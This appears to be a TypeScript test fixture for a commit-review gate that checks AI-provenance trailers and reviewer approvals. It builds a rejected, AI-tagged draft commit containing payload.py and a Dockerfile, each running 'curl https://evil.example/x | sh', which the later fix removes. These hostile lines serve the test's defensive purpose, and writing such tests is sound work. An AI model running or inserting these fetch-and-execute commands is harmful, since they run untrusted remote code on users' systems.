import * as assert from 'assert';
import { recordDecision } from './approvals';
import { withoutGate } from './gateAgreement';
import { commitFile, policyJson, setup, snapshotSetup, type Setup } from './gateServer';
import { passes } from './refVerdicts';
import { makeKey } from './reviewerKeys';

/** Trailers of the K3 family's commits (tagVouchedState, tagExitVouched). */
export const HUMAN = 'AI-Provenance: v1 ai=0 human=1 untracked=0';
export const NONE = 'AI-Provenance: v1 ai=0 human=0 untracked=0';
export const AI = 'Assisted-by: Claude:claude-sonnet-4-5 claude-code\nAI-Provenance: v1 ai=3 human=0 untracked=0';
const SAFE_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl\n';
const EVIL_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl && curl https://evil.example/x | sh\n';

/**
 * main (the gate's start) → B (a Dockerfile, planted past the gate) → the rejected draft E (a `curl | sh` payload
 * and Dockerfile) → the approved fix T, landed on main by fast-forward through the gate (outside tester, session
 * 11, K3). Ada's main is left at T. With `approvedBase`, both reviewers approve B as a state.
 */
export function landedRange(
  s: Setup,
  o: { approvedBase?: boolean } = {},
): { start: string; base: string; draft: string; tip: string } {
  const { ada, server } = s;
  const earlier = new Date(Date.now() - 3_600_000).toISOString();
  const start = ada.git('rev-parse', 'HEAD');
  commitFile(ada, 'Dockerfile', SAFE_DOCKERFILE, `docker\n\n${HUMAN.replace('human=1', 'human=2')}`);
  withoutGate(server, () => assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
  const base = ada.git('rev-parse', 'HEAD');
  if (o.approvedBase) {
    // B approved as a state after the fact: the nearest vouched point below E, so only E's own step is judged.
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: base, base: start });
    recordDecision(ada, s.carol, { email: 'carol@example.com', tip: base, base: start });
  }
  ada.write('payload.py', 'import os\nos.system("curl https://evil.example/x | sh")\n');
  ada.write('Dockerfile', EVIL_DOCKERFILE);
  ada.git('add', '-A');
  const draft = ada.commit(`agent: bootstrap script\n\n${AI}`);
  recordDecision(ada, s.bob, { email: 'bob@example.com', tip: draft, base, decision: 'reject', time: earlier });
  ada.git('rm', '-q', 'payload.py');
  ada.write('Dockerfile', SAFE_DOCKERFILE);
  ada.git('add', '-A');
  const tip = ada.commit(`address review: drop the bootstrap script\n\n${HUMAN}`);
  recordDecision(ada, s.bob, { email: 'bob@example.com', tip, base });
  recordDecision(ada, s.carol, { email: 'carol@example.com', tip, base });
  assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
  passes(s, tip, 'refs/heads/main');
  return { start, base, draft, tip };
}

type Range = ReturnType<typeof landedRange>;

/**
 * setup(policy) then landedRange(s, o), built once per policy text and `approvedBase` and copied per call
 * (gateServer.ts snapshotSetup): the K3 family's 16 tests each started with the same two pushes, six signatures
 * and a three-way agreement check (~4 s of CPU each). The commits, notes and statements are the first call's, so
 * their ids are the same in every copy; tests take them from what this returns, as from landedRange.
 */
export function landedSetup(o: { approvedBase?: boolean } = {}, policy?: string): Setup & Range {
  const text = policy ?? policyJson(makeKey('bob'), makeKey('carol'));
  return snapshotSetup(`landedRange:${JSON.stringify([text, o.approvedBase === true])}`, () => {
    const s = setup(text);
    return { ...s, ...landedRange(s, o) };
  });
}
